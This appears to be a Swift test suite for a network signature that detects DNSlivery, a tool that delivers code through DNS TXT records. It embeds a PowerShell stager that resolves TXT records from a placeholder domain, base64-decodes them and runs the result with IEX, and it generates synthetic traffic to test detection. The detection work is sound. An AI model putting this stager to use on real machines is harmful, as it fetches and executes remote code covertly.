import DNSWire
import Findings
import Signatures
import TestSupport
import Testing

/// DNSlivery by its stagers.
@Suite struct DNSliverySignatureTests {
    static let all = [
        delivery(stager: plain, inParts: false),
        ToolTraffic(
            tool: "DNSlivery",
            variant: "stager in parts",
            kind: .infiltration,
            traffic: delivery(stager: plain, inParts: true).traffic
        ),
    ]

    private static let plain =
        "IEX([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String((0..9 | "
        + "% {Resolve-DnsName -type TXT -Name \"tool-exe.$_.t.example.com\" | Where-Object Section -eq Answer | "
        + "Select -ExpandProperty Strings}))))"

    private static func delivery(stager: String, inParts: Bool) -> ToolTraffic {
        var generator = SeededGenerator(seed: 1)
        var traffic = ToolTraffic(tool: "DNSlivery", kind: .infiltration)
        if inParts {
            let text = ToolEncoding.padded(TextEncoding.standardBase64.encode(stager.utf8), group: 4)
            for (index, part) in ToolEncoding.labels(text, length: 255).enumerated() {
                traffic.exchange("tool-exe.exec.\(index + 1)", .txt, [.text(part, timeToLive: 1)])
            }
        } else {
            traffic.exchange("tool-exe.exec", .txt, [.text(stager.utf8, timeToLive: 1)])
        }
        for number in 0..<10 {
            let chunk = TextEncoding.standardBase64.encode(generator.octets(191)).prefix(255)
            traffic.exchange("tool-exe.\(number)", .txt, [.text(chunk, timeToLive: 1)])
        }
        return traffic
    }

    @Test(arguments: all) func recognizes(traffic: ToolTraffic) throws {
        let match = try #require(try traffic.match(DNSliverySignature()))
        #expect(match.tool.because.contains("\"tool-exe\""))
        #expect(match.kind == .infiltration)
    }

    @Test(arguments: [false, true]) func rejectsOtherScripts(inParts: Bool) throws {
        let script = Self.plain.replacing("Resolve-DnsName -type", with: "Resolve-DnsNames -type")
        #expect(try Self.delivery(stager: script, inParts: inParts).match(DNSliverySignature()) == nil)
    }
}
